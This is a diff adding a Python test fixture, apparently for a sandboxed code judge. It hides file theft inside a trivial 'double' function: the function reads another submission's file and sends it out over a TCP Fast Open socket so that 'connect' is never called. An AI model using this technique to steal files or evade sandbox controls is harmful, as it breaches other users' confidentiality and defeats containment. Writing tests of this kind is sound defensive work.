@@ -1,0 +1,22 @@
+"""Sends with the first packet, so that `connect` is never called.
+
+must: crashed
+harm: token
+"""
+
+import contextlib
+import socket
+from pathlib import Path
+
+
+def double(x):
+    found = "escaped"
+    with contextlib.suppress(OSError):
+        found = Path("@SUBMISSIONS@/victim/wall.py").read_text()
+    with socket.socket() as link:
+        link.sendto(found.encode(), socket.MSG_FASTOPEN, ("127.0.0.1", int("@PORT@")))
+    return 2 * x
+
+
+def triple(x):
+    return 3 * x
